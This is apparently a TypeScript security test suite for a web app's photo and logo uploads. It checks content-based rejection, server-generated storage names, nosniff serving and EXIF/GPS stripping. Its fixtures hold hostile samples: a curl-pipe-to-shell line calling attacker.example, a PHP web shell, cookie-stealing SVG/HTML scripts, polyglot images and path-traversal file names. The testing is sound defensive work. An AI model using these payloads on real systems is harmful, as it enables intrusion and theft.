import {
  GetObjectCommand,
  ListObjectsV2Command,
  S3Client,
  type ListObjectsV2CommandOutput,
} from '@aws-sdk/client-s3';
import type { JobView, PhotoView } from '@pondwright/shared';
import { randomBytes, randomUUID } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeS3, type FakeS3 } from '../../src/dev-fakes/fake-s3';
import { acceptedEstimate } from '../support/quote-fixtures';
import { addMember, bearer, createTestApp, signupCompany, type TestApp } from '../support/test-app';

/**
 * Photos (S3) and the company logo (PostgreSQL) are the two ways a file reaches the server. Files are
 * judged by their bytes, stored under names the server makes, served with their real type and
 * `nosniff`, and re-encoded so no metadata (a phone's GPS position) survives.
 */
const BUCKET = 'uploads-security';
const PHOTO_MAX_BYTES = 300_000;

let testApp: TestApp;
let s3: FakeS3;
let s3Client: S3Client;
const s3Directory = mkdtempSync(join(tmpdir(), 'pondwright-uploads-s3-'));

beforeAll(async () => {
  s3 = await startFakeS3({ port: 0, directory: s3Directory, bucket: BUCKET });
  testApp = await createTestApp({
    S3_ENDPOINT: s3.url,
    S3_BUCKET: BUCKET,
    PHOTO_MAX_BYTES: String(PHOTO_MAX_BYTES),
  });
  s3Client = new S3Client({
    region: 'us-east-1',
    endpoint: s3.url,
    forcePathStyle: true,
    credentials: { accessKeyId: 'S3RVER', secretAccessKey: 'S3RVER' },
  });
});
afterAll(async () => {
  s3Client.destroy();
  await testApp.close();
  await s3.stop();
  rmSync(s3Directory, { recursive: true, force: true });
});

type Owner = Awaited<ReturnType<typeof signupCompany>>;
type Session = { accessToken: string };
type FilePart = { filename: string; contentType: string; bytes: Buffer };

async function jobFor(owner: Owner): Promise<JobView> {
  const { estimate } = await acceptedEstimate(testApp, owner);
  return (
    await testApp
      .http()
      .post('/api/jobs')
      .set(...bearer(owner))
      .send({ estimateId: estimate.id })
      .expect(201)
  ).body as JobView;
}

/**
 * A multipart body written by hand, so the file name reaches the server exactly as given: NUL bytes,
 * backslashes and absolute paths included (a browser or form library would clean them first). A name
 * starting `*=` is sent as an RFC 5987 extended parameter (`filename*=UTF-8''…`, percent-encoded).
 */
function multipart(fields: Record<string, string>, field: string, file: FilePart) {
  const boundary = `----pondwright${randomBytes(8).toString('hex')}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      ),
    );
  }
  const filename = file.filename.startsWith('*=')
    ? `filename*=UTF-8''${file.filename.slice(2)}`
    : `filename="${file.filename}"`;
  parts.push(
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; ${filename}\r\n` +
        `Content-Type: ${file.contentType}\r\n\r\n`,
      'latin1',
    ),
    file.bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  );
  return { contentType: `multipart/form-data; boundary=${boundary}`, body: Buffer.concat(parts) };
}

function uploadPhoto(session: Session, jobId: string, photoId: string, file: FilePart) {
  const { contentType, body } = multipart({ kind: 'progress', caption: '' }, 'photo', file);
  return testApp
    .http()
    .put(`/api/jobs/${jobId}/photos/${photoId}`)
    .set(...bearer(session))
    .set('Content-Type', contentType)
    .send(body);
}

function uploadLogo(session: Session, file: FilePart) {
  const { contentType, body } = multipart({}, 'logo', file);
  return testApp
    .http()
    .put('/api/company/logo')
    .set(...bearer(session))
    .set('Content-Type', contentType)
    .send(body);
}

function getBinary(path: string, session?: Session) {
  const request = testApp.http().get(path);
  if (session) request.set(...bearer(session));
  return request.buffer(true).parse((response, done) => {
    const chunks: Buffer[] = [];
    response.on('data', (chunk: Buffer) => chunks.push(chunk));
    response.on('end', () => done(null, Buffer.concat(chunks)));
  });
}

async function bucketKeys(prefix = ''): Promise<string[]> {
  const keys: string[] = [];
  let token: string | undefined;
  do {
    const page: ListObjectsV2CommandOutput = await s3Client.send(
      new ListObjectsV2Command({ Bucket: BUCKET, Prefix: prefix, ContinuationToken: token }),
    );
    keys.push(...(page.Contents ?? []).map((object) => object.Key!));
    token = page.NextContinuationToken;
  } while (token);
  return keys.sort();
}

async function storedObject(key: string): Promise<Buffer> {
  const object = await s3Client.send(new GetObjectCommand({ Bucket: BUCKET, Key: key }));
  return Buffer.from(await object.Body!.transformToByteArray());
}

function filesUnder(directory: string): string[] {
  return readdirSync(directory, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => relative(s3Directory, join(entry.parentPath, entry.name)));
}

const photoJpeg = (background = '#4d7a5c') =>
  sharp({ create: { width: 640, height: 480, channels: 3, background } })
    .jpeg({ quality: 70 })
    .toBuffer();

const logoPng = () =>
  sharp({ create: { width: 48, height: 48, channels: 3, background: '#1f6f5c' } })
    .png()
    .toBuffer();

const ELF = Buffer.concat([
  Buffer.from('7f454c46020101000000000000000000', 'hex'),
  Buffer.alloc(2048),
]);
const MZ = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'),
  Buffer.alloc(2048),
]);
const SHELL = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');
const PHP = Buffer.from('<?php system($_GET["cmd"]); ?>\n');
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="9" height="9"/></svg>',
);
const HTML = Buffer.from(
  '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
);
/** Starts like the real thing, so a check of the first bytes alone passes it. */
const JPEG_THEN_HTML = Buffer.concat([Buffer.from('ffd8ffe000104a464946', 'hex'), HTML]);
const PNG_THEN_PHP = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), PHP]);

/** Each hostile file under a photo's name and type, and the same again declared as what it is. */
const HOSTILE: Array<{ label: string; file: FilePart }> = [
  {
    label: 'an ELF executable named .jpg',
    file: { filename: 'IMG_0001.jpg', contentType: 'image/jpeg', bytes: ELF },
  },
  {
    label: 'a Windows executable named .jpg',
    file: { filename: 'holiday.jpg', contentType: 'image/jpeg', bytes: MZ },
  },
  {
    label: 'a shell script named .jpg',
    file: { filename: 'pond.jpg', contentType: 'image/jpeg', bytes: SHELL },
  },
  {
    label: 'a PHP script named .jpg',
    file: { filename: 'shell.php.jpg', contentType: 'image/jpeg', bytes: PHP },
  },
  {
    label: 'an SVG declared as SVG',
    file: { filename: 'logo.svg', contentType: 'image/svg+xml', bytes: SVG },
  },
  {
    label: 'an SVG declared as PNG',
    file: { filename: 'logo.png', contentType: 'image/png', bytes: SVG },
  },
  {
    label: 'an HTML page declared as JPEG',
    file: { filename: 'photo.jpg', contentType: 'image/jpeg', bytes: HTML },
  },
  {
    label: 'an HTML page declared as HTML',
    file: { filename: 'photo.html', contentType: 'text/html', bytes: HTML },
  },
  {
    label: 'a JPEG signature followed by HTML',
    file: { filename: 'photo.jpg', contentType: 'image/jpeg', bytes: JPEG_THEN_HTML },
  },
  {
    label: 'a PNG signature followed by PHP',
    file: { filename: 'logo.png', contentType: 'image/png', bytes: PNG_THEN_PHP },
  },
];

/** A camera JPEG with EXIF: make, a PHP payload in the description, and the GPS position of a garden. */
function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 800, height: 600, channels: 3, background: '#6a8f4e' } })
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Make: 'PondCam', Model: 'Exif Leak 1', ImageDescription: '<?php echo 1; ?>' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 1234/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 3900/100',
      },
    })
    .toBuffer();
}

/** The GPS IFD pointer tag 0x8825, in either byte order. */
const hasGpsTag = (exif: Buffer) =>
  exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));

async function expectNoMetadata(image: Buffer, label: string) {
  const meta = await sharp(image).metadata();
  expect([meta.exif, meta.xmp, meta.iptc, meta.orientation], label).toEqual([
    undefined,
    undefined,
    undefined,
    undefined,
  ]);
  for (const leak of ['PondCam', 'Exif Leak', '<?php']) {
    expect(image.includes(leak), `${label} still holds "${leak}"`).toBe(false);
  }
}

describe('uploads judged by their content', () => {
  it('refuses executables, scripts, SVG and HTML as photos and as logos, whatever their name or declared type, and stores nothing', async () => {
    const owner = await signupCompany(testApp);
    const crewLead = await addMember(testApp, owner, 'crew_lead');
    const job = await jobFor(owner);

    for (const { label, file } of HOSTILE) {
      const photo = await uploadPhoto(crewLead, job.id, randomUUID(), file);
      expect(photo.status, `photo: ${label}`).toBe(400);
      expect(photo.body.code, `photo: ${label}`).toBe('PHOTO_NOT_AN_IMAGE');
      const logo = await uploadLogo(owner, file);
      expect(logo.status, `logo: ${label}`).toBe(400);
      expect(logo.body.code, `logo: ${label}`).toBe('LOGO_INVALID');
    }

    expect(
      await testApp.dataSource.query(`SELECT 1 FROM job_photos WHERE job_id = $1`, [job.id]),
    ).toEqual([]);
    expect(await bucketKeys(`companies/${owner.companyId}/`)).toEqual([]);
    expect(
      await testApp.dataSource.query(`SELECT 1 FROM company_logos WHERE company_id = $1`, [
        owner.companyId,
      ]),
    ).toEqual([]);
  });

  it('refuses a photo over PHOTO_MAX_BYTES or multer’s hard cap, and a logo over 512 KB', async () => {
    const owner = await signupCompany(testApp);
    const job = await jobFor(owner);
    // Noise does not compress: a 600 × 600 noisy PNG is over the 300 kB limit set above.
    const noisy = await sharp(randomBytes(600 * 600 * 3), {
      raw: { width: 600, height: 600, channels: 3 },
    })
      .png()
      .toBuffer();
    expect(noisy.length).toBeGreaterThan(PHOTO_MAX_BYTES);
    const tooBig = await uploadPhoto(owner, job.id, randomUUID(), {
      filename: 'big.png',
      contentType: 'image/png',
      bytes: noisy,
    }).expect(413);
    expect(tooBig.body.code).toBe('PHOTO_TOO_LARGE');
    // Beyond the largest limit configuration allows (50 MB), multer stops reading at once.
    const huge = Buffer.concat([await photoJpeg(), Buffer.alloc(51 * 1024 * 1024)]);
    await uploadPhoto(owner, job.id, randomUUID(), {
      filename: 'huge.jpg',
      contentType: 'image/jpeg',
      bytes: huge,
    }).expect(413);

    const bigLogo = Buffer.concat([await logoPng(), Buffer.alloc(512 * 1024)]);
    const logo = await uploadLogo(owner, {
      filename: 'logo.png',
      contentType: 'image/png',
      bytes: bigLogo,
    });
    expect([400, 413]).toContain(logo.status);

    expect(
      await testApp.dataSource.query(`SELECT 1 FROM job_photos WHERE job_id = $1`, [job.id]),
    ).toEqual([]);
    expect(await bucketKeys(`companies/${owner.companyId}/`)).toEqual([]);
    const company = await testApp
      .http()
      .get('/api/company')
      .set(...bearer(owner))
      .expect(200);
    expect(company.body.hasLogo).toBe(false);
  });
});

describe('storage names', () => {
  it('come from the company, job and photo ids, never from the uploaded file name', async () => {
    const owner = await signupCompany(testApp);
    const crewLead = await addMember(testApp, owner, 'crew_lead');
    const job = await jobFor(owner);
    const names = [
      '../../etc/passwd.jpg',
      '../../../../../../tmp/pondwright-escape.jpg',
      '/etc/passwd.jpg',
      '..\\..\\windows\\win.ini.jpg',
      'C:\\Windows\\System32\\evil.jpg',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd.jpg',
      // Decoded by the multipart parser into "../../etc/passwd<NUL>.php.jpg".
      '*=..%2F..%2Fetc%2Fpasswd%00.php.jpg',
      `companies/${owner.companyId}/jobs/${job.id}/photos/other.jpg`,
    ];
    // A raw NUL in the header is not even parsed: the multipart parser refuses the request.
    const nul = await uploadPhoto(crewLead, job.id, randomUUID(), {
      filename: 'photo\u0000.php.jpg',
      contentType: 'image/jpeg',
      bytes: await photoJpeg(),
    });
    expect(nul.status).toBe(400);
    expect(await bucketKeys(`companies/${owner.companyId}/`)).toEqual([]);

    const ids: string[] = [];
    for (const [index, filename] of names.entries()) {
      const photoId = randomUUID();
      const bytes = await photoJpeg(`#4d7a${(16 + index).toString(16)}`);
      const response = await uploadPhoto(crewLead, job.id, photoId, {
        filename,
        contentType: 'image/jpeg',
        bytes,
      });
      expect(response.status, filename).toBe(201);
      expect(JSON.stringify(response.body), filename).not.toMatch(/passwd|win\.ini|escape|\.php/);
      ids.push(photoId);
    }

    const base = `companies/${owner.companyId}/jobs/${job.id}/photos`;
    const expectedKeys = ids
      .flatMap((id) => [`${base}/${id}.jpg`, `${base}/${id}-thumb.webp`])
      .sort();
    expect(await bucketKeys(`companies/${owner.companyId}/`)).toEqual(expectedKeys);
    const rows = (await testApp.dataSource.query(
      `SELECT id, image_key, thumbnail_key FROM job_photos WHERE job_id = $1`,
      [job.id],
    )) as Array<{ id: string; image_key: string; thumbnail_key: string }>;
    for (const row of rows) {
      expect([row.image_key, row.thumbnail_key]).toEqual([
        `${base}/${row.id}.jpg`,
        `${base}/${row.id}-thumb.webp`,
      ]);
    }
    // Nothing landed outside the company's folder of the bucket on the fake store's disk either.
    for (const file of filesUnder(s3Directory)) {
      expect(file.startsWith(`${BUCKET}/companies/`), file).toBe(true);
      expect(file, file).not.toMatch(/passwd|win\.ini|escape|\.php|\.\./);
    }

    // A path-like photo id is not an id: 404, nothing stored.
    for (const photoId of ['..%2F..%2Fetc%2Fpasswd', '..', `${ids[0]}%2F..%2F..%2Fx`]) {
      const response = await uploadPhoto(crewLead, job.id, photoId, {
        filename: 'x.jpg',
        contentType: 'image/jpeg',
        bytes: await photoJpeg(),
      });
      expect(response.status, photoId).toBe(404);
    }
    expect(await bucketKeys(`companies/${owner.companyId}/`)).toEqual(expectedKeys);

    // The logo is kept by company id alone, with no trace of the name it came with.
    for (const filename of names) {
      const logo = await uploadLogo(owner, {
        filename,
        contentType: 'image/png',
        bytes: await logoPng(),
      });
      expect(logo.status, filename).toBe(200);
    }
    const [logoRow] = (await testApp.dataSource.query(
      `SELECT * FROM company_logos WHERE company_id = $1`,
      [owner.companyId],
    )) as Array<Record<string, unknown>>;
    expect(Object.keys(logoRow!).sort()).toEqual([
      'bytes',
      'company_id',
      'content_type',
      'sha256',
      'updated_at',
    ]);
  });
});

describe('serving uploads', () => {
  it('answers with the real image type and X-Content-Type-Options: nosniff', async () => {
    const owner = await signupCompany(testApp);
    const { estimate, token } = await acceptedEstimate(testApp, owner);
    const job = (
      await testApp
        .http()
        .post('/api/jobs')
        .set(...bearer(owner))
        .send({ estimateId: estimate.id })
        .expect(201)
    ).body as JobView;
    // A PNG sent with a JPEG name and an HTML type is stored as the JPEG the server made of it.
    const png = await sharp({
      create: { width: 300, height: 200, channels: 3, background: '#335577' },
    })
      .png()
      .toBuffer();
    const photo = (
      await uploadPhoto(owner, job.id, randomUUID(), {
        filename: 'pond.html',
        contentType: 'text/html',
        bytes: png,
      }).expect(201)
    ).body as PhotoView;
    await uploadLogo(owner, {
      filename: 'logo.html',
      contentType: 'text/html',
      bytes: await logoPng(),
    }).expect(200);

    const served = [
      { path: photo.imagePath, type: 'image/jpeg', format: 'jpeg', session: owner },
      { path: photo.thumbnailPath, type: 'image/webp', format: 'webp', session: owner },
      { path: '/api/company/logo', type: 'image/png', format: 'png', session: owner },
      { path: `/api/quotes/${token}/logo`, type: 'image/png', format: 'png', session: undefined },
    ];
    for (const { path, type, format, session } of served) {
      const response = await getBinary(path, session).expect(200);
      expect(response.headers['content-type'], path).toBe(type);
      expect(response.headers['x-content-type-options'], path).toBe('nosniff');
      expect(response.headers['content-disposition'], path).toBeUndefined();
      expect((await sharp(response.body as Buffer).metadata()).format, path).toBe(format);
    }
  });
});

describe('metadata', () => {
  it('strips EXIF, GPS included, from the stored photo, its thumbnail and the logo', async () => {
    const owner = await signupCompany(testApp);
    const crewLead = await addMember(testApp, owner, 'crew_lead');
    const job = await jobFor(owner);
    const camera = await jpegWithGps();
    // The control: the upload really carries EXIF with a GPS directory and the payload.
    const sent = await sharp(camera).metadata();
    expect(sent.exif).toBeDefined();
    expect(hasGpsTag(sent.exif!)).toBe(true);
    expect(camera.includes('PondCam')).toBe(true);

    const photo = (
      await uploadPhoto(crewLead, job.id, randomUUID(), {
        filename: 'IMG_2041.JPG',
        contentType: 'image/jpeg',
        bytes: camera,
      }).expect(201)
    ).body as PhotoView;
    const [row] = (await testApp.dataSource.query(
      `SELECT image_key, thumbnail_key FROM job_photos WHERE id = $1`,
      [photo.id],
    )) as Array<{ image_key: string; thumbnail_key: string }>;
    // Read back from the store itself, then as served.
    await expectNoMetadata(await storedObject(row!.image_key), 'stored photo');
    await expectNoMetadata(await storedObject(row!.thumbnail_key), 'stored thumbnail');
    await expectNoMetadata(
      (await getBinary(photo.imagePath, owner).expect(200)).body as Buffer,
      'served photo',
    );

    await uploadLogo(owner, {
      filename: 'logo.jpg',
      contentType: 'image/jpeg',
      bytes: camera,
    }).expect(200);
    const [logo] = (await testApp.dataSource.query(
      `SELECT bytes, content_type FROM company_logos WHERE company_id = $1`,
      [owner.companyId],
    )) as Array<{ bytes: Buffer; content_type: string }>;
    expect(logo!.content_type).toBe('image/jpeg');
    await expectNoMetadata(logo!.bytes, 'stored logo');
    const servedLogo = await getBinary('/api/company/logo', owner).expect(200);
    await expectNoMetadata(servedLogo.body as Buffer, 'served logo');
    expect((await sharp(servedLogo.body as Buffer).metadata()).width).toBe(800);
  });
});
